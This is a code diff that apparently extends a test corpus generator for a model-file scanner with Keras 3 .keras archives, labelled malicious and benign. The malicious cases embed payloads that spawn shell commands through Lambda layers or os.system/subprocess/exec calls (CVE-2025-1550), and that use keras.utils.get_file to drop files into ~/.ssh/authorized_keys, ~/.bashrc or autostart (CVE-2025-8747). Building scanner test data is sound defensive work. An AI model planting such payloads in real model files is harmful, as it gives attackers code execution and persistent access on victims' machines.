@@ -790,8 +790,56 @@ def m_onnx_reach_out(d):
                 f"dlopen {lib}", bytes_writer(data))
 
 
+def _keras3_model(d, layer, functional):
+    """A Keras 3 archive around one extra layer, Sequential (the layer follows Dense) or
+    Functional (its inbound node given by the caller's layer)."""
+    units = d.r.randint(2, 6)
+    weights = formats.keras3_dense_weights(d.r.getrandbits(31), {"dense": (4, units)})
+    if functional:
+        dense = formats.keras3_dense("dense", units, 4, [{"args": [formats.keras3_tensor("input_layer", [None, 4])],
+                                                           "kwargs": {}}])
+        config = formats.keras3_functional([dense, layer], layer["name"])
+    else:
+        config = formats.keras3_sequential([formats.keras3_dense("dense", units, 4), layer])
+    return formats.keras3_archive(config, weights, date=f"2024-{d.r.randint(1, 12):02d}-{d.r.randint(1, 28):02d}@10:00:00")
+
+
+def m_keras3_config_code(d):
+    """Issue #12: a Keras 3 .keras archive that runs code from its config: a __lambda__ Lambda
+    (safe_mode=False), a module function handed a literal command (CVE-2025-1550), or
+    keras.utils.get_file writing into the decoy home (CVE-2025-8747)."""
+    kind = d.pick(["lambda", "module-function", "exec", "get-file"])
+    cmd = d.shell_cmd()
+    name = d.pick(["preprocess", "normalize", "tokenize", "fetch_vocab", "scale"])
+    if kind == "lambda":
+        src = d.pick([f"lambda x: __import__('subprocess').getoutput({cmd!r}) and x",
+                      f"lambda x: [__import__('os').popen({cmd!r}).read(), x][1]"])
+        layer = formats.keras3_lambda(name, formats.keras3_lambda_code(src), inbound=None)
+        return Made("malicious", "keras3-lambda-code", "keras-v3", ".keras",
+                    "Keras 3 .keras whose __lambda__ Lambda spawns a shell", SH,
+                    bytes_writer(_keras3_model(d, layer, False)))
+    if kind in ("module-function", "exec"):
+        function = formats.keras3_module_function(*d.pick([("os", "system"), ("subprocess", "getoutput"),
+                                                            ("subprocess", "check_output")])) \
+            if kind == "module-function" else formats.keras3_module_function("builtins", "exec")
+        arg = cmd if kind == "module-function" else f"__import__('os').system({cmd!r})"
+        kwargs = {"shell": True} if function["config"] == "check_output" else {}
+        layer = formats.keras3_lambda(name, function, inbound=[{"args": [arg], "kwargs": kwargs}])
+        return Made("malicious", "keras3-module-function", "keras-v3", ".keras",
+                    f"Keras 3 Functional config calling {function['module']}.{function['config']} on a literal "
+                    "node argument (CVE-2025-1550)", SH, bytes_writer(_keras3_model(d, layer, True)))
+    target = d.pick([("~/.ssh", "authorized_keys"), ("~", ".bashrc"), ("~/.config/autostart", "update.desktop")])
+    layer = formats.keras3_lambda(name, formats.keras3_module_function("keras.utils", "get_file"),
+                                  {"origin": f"http://{d.invalid_host()}/{target[1]}", "cache_dir": target[0],
+                                   "cache_subdir": "", "force_download": True},
+                                  [{"args": [target[1]], "kwargs": {}}])
+    return Made("malicious", "keras3-get-file", "keras-v3", ".keras",
+                f"Keras 3 config calling keras.utils.get_file into {target[0]}/{target[1]} (CVE-2025-8747)",
+                target[1], bytes_writer(_keras3_model(d, layer, True)))
+
+
 FIXED_MALICIOUS = [m_torch_extra_member, m_numpy_nested_object, m_joblib_compressed, m_dill_function,
-                   m_keras_lambda_popen, m_gguf_template_injection, m_onnx_reach_out]
+                   m_keras_lambda_popen, m_gguf_template_injection, m_onnx_reach_out, m_keras3_config_code]
 
 
 # --- suspicious: string code with no effect, environment probes ---------------------------------
@@ -1016,9 +1064,29 @@ def b_onnx_model(d):
                 "call modelvet.onnx", write)
 
 
+def b_keras3_model(d):
+    """Issue #12: a Keras 3 .keras archive as model.save writes it: plain Dense layers, or a
+    Lambda doing arithmetic (flagged by scanners), Sequential or Functional."""
+    kind = d.pick(["dense", "lambda", "activation"])
+    functional = d.pick([False, True])
+    if kind == "lambda":
+        src = d.pick(["lambda x: x * 2.0", f"lambda x: x / {d.r.randint(2, 255)}.0", "lambda x: x - x.mean()"])
+        inbound = [{"args": [formats.keras3_tensor("dense", [None, 2])], "kwargs": {}}] if functional else None
+        layer = formats.keras3_lambda(d.pick(["scale", "center", "normalize"]), formats.keras3_lambda_code(src), inbound=inbound)
+    else:
+        inbound = [{"args": [formats.keras3_tensor("dense", [None, 2])], "kwargs": {}}] if functional else None
+        activation = formats.keras3_module_function("keras.activations", d.pick(["relu", "sigmoid", "tanh"])) \
+            if kind == "activation" else d.pick(["relu", "linear", "softmax"])
+        layer = formats.keras3_dense("dense_1", d.r.randint(1, 4), 2, inbound, activation=activation)
+    return Made("benign", "keras3-model", "keras-v3", ".keras",
+                f"Keras 3 {'Functional' if functional else 'Sequential'} .keras ({kind})", "static keras-v3",
+                bytes_writer(_keras3_model(d, layer, functional)))
+
+
 BENIGN = [b_archived_checkpoint, b_torch_nested_checkpoint, b_numpy_structured, b_sklearn_pipeline, b_getattr_harmless, b_operator_add,
           b_decimal_fraction_datetime, b_namedtuples, b_dill_closure_numbers, b_keras_arith, b_numpy_nested_object,
-          b_joblib_other_compressor, b_torch_module_variant, b_gguf_chat_model, b_onnx_model]
+          b_joblib_other_compressor, b_torch_module_variant, b_gguf_chat_model, b_onnx_model,
+          b_keras3_model]
 
 
 # --- choosing and writing the set -----------------------------------------------------------------
